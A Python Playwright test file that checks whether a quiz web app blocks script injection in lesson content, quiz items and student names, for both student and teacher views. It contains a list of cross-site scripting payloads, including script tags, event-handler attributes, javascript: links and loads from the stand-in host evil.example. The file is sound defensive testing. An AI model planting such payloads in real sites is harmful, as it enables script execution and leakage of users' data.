"""Lessons and names that try to run as code in a student's or a teacher's browser."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page

from bench.live import Live, Visitor

SCRIPTS = (
    "<script>window.ran = 1</script>",
    '<script src="http://evil.example/x.js"></script>',
    '<img src=x onerror="window.ran = 1">',
    '<img src="http://evil.example/spy.png">',
    "<svg onload='window.ran = 1'><script>window.ran = 1</script></svg>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    '<a href="javascript:window.ran=1" class="try">press</a>',
    "[press](javascript:window.ran=1)",
    "[press](<java\tscript:window.ran=1>)",
    "[press](data:text/html,<script>window.ran=1</script>)",
    "![spy](http://evil.example/spy.png)",
    '<details open ontoggle="window.ran = 1"><summary>x</summary></details>',
    '<input autofocus onfocus="window.ran = 1">',
    '<form action="http://evil.example/"><button>press</button></form>',
    '<style>@import "http://evil.example/x.css";</style>',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0; url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<p style="background: url(http://evil.example/x.png)">x</p>',
    "<math><mtext><script>window.ran = 1</script></mtext></math>",
)
NAME = "<img src=x onerror=window.ran=1>"


def lesson() -> str:
    """A lesson with every attack in its prose, in a question, in an option and in feedback."""
    prose = "\n\n".join(SCRIPTS)
    items = "\n\n".join(
        f"### Stem {number} {attack} {{#i{number}}}\n\n- (x) right {attack}\n    > {attack}\n"
        f"- ( ) wrong {attack}\n    > {attack}\n\nwhy: {attack}"
        for number, attack in enumerate(SCRIPTS)
    )
    return (
        f"---\ntitle: '{NAME}'\nobjectives:\n  - '{NAME}'\nterms:\n  Word: '{NAME}'\n---\n\n"
        f"{prose}\n\n## Quiz: {NAME} {{#quiz}}\n\n{items}\n"
    )


@pytest.fixture(scope="module")
def live(serve: Callable[..., Live], tmp_path_factory: pytest.TempPathFactory) -> Live:
    folder: Path = tmp_path_factory.mktemp("hostile")
    (folder / "hostile.md").write_text(lesson(), encoding="utf-8")
    return serve(folder)


def visit(page: Page, paths: list[str], origin: str) -> list[str]:
    """Open pages, press what asks to be pressed, and list what should not have happened."""
    wrong: list[str] = []
    page.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: (
            wrong.append(request.url)
            if urlsplit(request.url).scheme in ("http", "https")
            and f"http://{urlsplit(request.url).netloc}" != origin
            else None
        ),
    )
    for path in paths:
        page.goto(f"{origin}{path}")
        for link in page.get_by_text("press", exact=True).all():
            if link.is_visible():
                link.click(no_wait_after=True)
                if page.url != f"{origin}{path}":
                    page.goto(f"{origin}{path}")
        if page.evaluate("window.ran"):
            wrong.append(f"code ran on {path}")
    return wrong


def test_nothing_of_a_hostile_lesson_runs(
    live: Live, by_http: Callable[[int], Visitor], context: BrowserContext
) -> None:
    student = by_http(live.port)
    student.join(NAME)
    attempt = student.start("hostile", "quiz")
    other = by_http(live.port)
    other.join(NAME)
    handed_in = other.start("hostile", "quiz")
    other.post(f"{handed_in}/submit", {})
    origin = f"http://quiz.lan:{live.port}"
    for visitor, paths in (
        (student, ["/", "/lessons/hostile", "/lessons/hostile/quizzes/quiz", attempt]),
        (student, [f"{attempt}/summary"]),
        (other, [f"{handed_in}/review"]),
    ):
        put_cookies(context, visitor, origin)
        assert visit(context.new_page(), paths, origin) == []


def test_nothing_of_it_runs_for_the_teacher(
    live: Live, by_http: Callable[[int], Visitor], context: BrowserContext
) -> None:
    student, teacher = by_http(live.port), by_http(live.port)
    student.join(NAME)
    attempt = student.start("hostile", "quiz")
    student.post(f"{attempt}/submit", {})
    teacher.get(urlsplit(live.link).path)
    origin = f"http://127.0.0.1:{live.port}"
    put_cookies(context, teacher, origin)
    paths = ["/instructor/", "/instructor/lessons/hostile", f"/instructor{attempt}"]
    assert visit(context.new_page(), paths, origin) == []


def test_the_policy_holds_where_the_cleaning_would_fail(live: Live, page: Page) -> None:
    """Put the attacks into a page as they are: the browser itself must refuse to run them."""
    origin = f"http://quiz.lan:{live.port}"
    wrong: list[str] = []
    page.on("requestfinished", lambda r: wrong.append(r.url) if origin not in r.url else None)
    page.goto(f"{origin}/join")
    # No policy stops a refresh, so that one is for the cleaning alone.
    for attack in (attack for attack in SCRIPTS if "refresh" not in attack):
        page.evaluate(
            "html => document.querySelector('main')"
            ".append(document.createRange().createContextualFragment(html))",
            attack,
        )
    for link in page.locator("a.try").all():
        link.click(no_wait_after=True)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.ran") is None
    assert [url for url in wrong if not url.startswith(("data:", "about:"))] == []


def put_cookies(context: BrowserContext, visitor: Visitor, origin: str) -> None:
    context.clear_cookies()
    context.add_cookies(
        [{"name": name, "value": value, "url": origin} for name, value in visitor.cookies.items()]
    )
